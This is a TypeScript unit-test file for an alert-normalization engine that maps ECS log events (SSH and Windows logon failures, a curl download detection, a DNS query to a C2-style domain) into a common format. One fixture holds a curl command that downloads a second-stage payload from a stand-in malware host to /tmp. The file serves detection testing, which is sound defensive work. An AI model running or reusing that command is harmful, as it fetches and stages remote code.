import { describe, expect, it } from 'vitest';
import { normalize } from '../../../src/engine/normalize/index.js';
import { AlertFormat } from '../../../src/engine/types.js';
import { fixtureJson, NOW } from './helpers.js';

const json = (value: Record<string, unknown>) => normalize({ kind: 'json', value }, { now: NOW });

describe('ECS', () => {
  it('maps a Filebeat system/auth event', () => {
    const event = json(fixtureJson('normalize/ecs-filebeat-sshd.json'));
    expect(event).toMatchObject({
      format: AlertFormat.ECS,
      message: 'Failed password for root from 203.0.113.45 port 51122 ssh2',
      timestamp: Date.UTC(2024, 2, 12, 10, 15, 41),
      host: 'web-01',
      program: 'sshd',
      process: 'sshd',
      pid: 2235,
      srcIp: '203.0.113.45',
      srcPort: 51122,
      user: 'root',
      action: 'ssh_login',
      outcome: 'failure',
    });
    expect(event.fields).toMatchObject({
      'event.category.0': 'authentication',
      'system.auth.ssh.method': 'password',
      'host.os.family': 'debian',
      'related.ip.0': '203.0.113.45',
    });
  });

  it('maps a Winlogbeat logon failure with winlog.event_data', () => {
    const event = json(fixtureJson('normalize/ecs-winlogbeat-4625.json'));
    expect(event).toMatchObject({
      format: AlertFormat.ECS,
      host: 'dc01.corp.example.com',
      eventId: '4625',
      action: 'logon-failed',
      outcome: 'failure',
      user: 'administrator',
      targetUser: 'administrator',
      srcIp: '198.51.100.66',
      srcPort: 49822,
      vendor: 'Microsoft',
      timestamp: Date.UTC(2024, 2, 12, 11, 2, 44, 996),
    });
    expect(event.message).toBe('EventID 4625 (Security): An account failed to log on - user=administrator, from 198.51.100.66, logon type 3');
  });

  it('maps dotted keys, process, url, file hash and ATT&CK ids from a threat array', () => {
    const event = json(fixtureJson('normalize/ecs-dotted.json'));
    expect(event).toMatchObject({
      format: AlertFormat.ECS,
      message: 'curl fetched a second-stage payload',
      host: 'build-7',
      program: 'curl',
      process: '/usr/bin/curl',
      pid: 48121,
      commandLine: 'curl -fsSL http://malware.example.org/stage2.sh -o /tmp/s.sh',
      user: 'ci',
      dstIp: '198.51.100.200',
      dstPort: 80,
      url: 'http://malware.example.org/stage2.sh',
      domain: 'malware.example.org',
      file: '/tmp/s.sh',
      hash: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      ruleId: 'a1b2c3',
      ruleDescription: 'Download via curl to tmp',
      mitreTechniques: ['T1105', 'T1059.004'],
    });
  });

  it('maps DNS, targets, process args and outcome', () => {
    const event = json({
      '@timestamp': '2024-03-12T12:00:00.250Z',
      event: { action: 'user-switched', outcome: 'success' },
      user: { name: 'alice', target: { name: 'root' } },
      process: { name: 'bash', args: ['bash', '-c', 'id', '-c'] },
      dns: { question: { name: 'c2.example.net' } },
      threat: { technique: { id: ['T1071.004'] } },
    });
    expect(event).toMatchObject({
      format: AlertFormat.ECS,
      timestamp: Date.UTC(2024, 2, 12, 12, 0, 0, 250),
      user: 'alice',
      targetUser: 'root',
      commandLine: 'bash -c id -c',
      domain: 'c2.example.net',
      outcome: 'success',
      mitreTechniques: ['T1071.004'],
    });
    expect(event.message).not.toBe('');
  });

  it('does not take a document with only @timestamp and plain strings for ECS', () => {
    expect(json({ '@timestamp': '2024-03-12T12:00:00Z', host: 'web1', msg: 'hello' }).format).toBe(AlertFormat.JSON);
  });
});
